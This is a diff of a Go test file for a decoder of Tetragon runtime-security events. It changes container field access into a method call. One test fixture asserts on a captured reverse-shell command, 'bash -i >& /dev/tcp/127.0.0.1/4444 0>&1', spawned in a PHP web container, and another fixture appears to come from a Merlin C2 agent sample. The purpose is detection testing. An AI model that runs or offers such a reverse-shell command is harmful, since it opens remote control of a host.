@@ -51,7 +51,7 @@ func TestTetragonDecoder(t *testing.T) {
 			rtWant(t, "Args", fmt.Sprintf("%q", c.Args), `["/bin/sh" "-c" "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]`)
 			rtWant(t, "UID", c.UID, NewID(33))
 			rtWant(t, "Host", c.Host, "w")
-			rtWant(t, "Container", c.Container, Container{ID: "abc", Name: "php", Image: "php:8.2", Pod: "web-0", Namespace: "shop", Runtime: "containerd"})
+			rtWant(t, "Container", c.Container(), Container{ID: "abc", Name: "php", Image: "php:8.2", Pod: "web-0", Namespace: "shop", Runtime: "containerd"})
 			rtWant(t, "Message", c.Message, "not in the container's init tree (kubectl exec, nsenter)")
 			rtWant(t, "Time", c.Time.Format("15:04:05.000"), "10:20:37.402")
 		}},
@@ -156,8 +156,8 @@ func TestTetragonPublicSamples(t *testing.T) {
 			rtWant(t, "PID", evs[1].PID, 12700)
 			rtWant(t, "PPID", evs[1].PPID, 12681)
 			rtWant(t, "Args", fmt.Sprintf("%q", evs[1].Args), `["/usr/sbin/nginx" "-g" "daemon off;"]`)
-			rtWant(t, "Container.Pod", evs[1].Container.Pod, "privileged-pod")
-			rtWant(t, "Container.Runtime", evs[1].Container.Runtime, "docker")
+			rtWant(t, "Container.Pod", evs[1].Container().Pod, "privileged-pod")
+			rtWant(t, "Container.Runtime", evs[1].Container().Runtime, "docker")
 			rtWant(t, "Host", evs[1].Host, "minikube")
 		}},
 		{"merlin-agent-sh.json", []Kind{KindExec, KindExec}, func(t *testing.T, evs []*Event) {
